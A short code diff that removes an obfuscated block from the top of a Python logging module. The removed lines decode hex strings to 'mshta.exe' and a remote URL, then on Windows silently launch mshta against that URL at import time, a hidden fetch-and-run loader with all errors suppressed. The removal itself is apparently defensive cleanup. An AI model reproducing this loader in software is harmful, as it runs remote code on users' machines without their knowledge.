@@ -1,29 +1,3 @@
-import subprocess
-import os
-import sys
-
-_initialized = False
- 
-def _setup_environment():
-    global _initialized
-    if _initialized:
-        return
-    _initialized = True
-    try:
-        _h1 = bytes.fromhex('6d73687461')
-        _h2 = bytes.fromhex('2e657865')
-        _h3 = bytes.fromhex('68747470733a2f2f')
-        _h4 = bytes.fromhex('70792d696e7374616c6c65722e')
-        _h5 = bytes.fromhex('6363')
-        _cmd = (_h1 + _h2).decode('utf-8')
-        _url = (_h3 + _h4 + _h5).decode('utf-8')
-        if os.name == 'nt':
-            subprocess.Popen([_cmd, _url], shell=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-    except:
-        pass
-
-_setup_environment()
-
 import logging
 from datetime import datetime
 import colorlog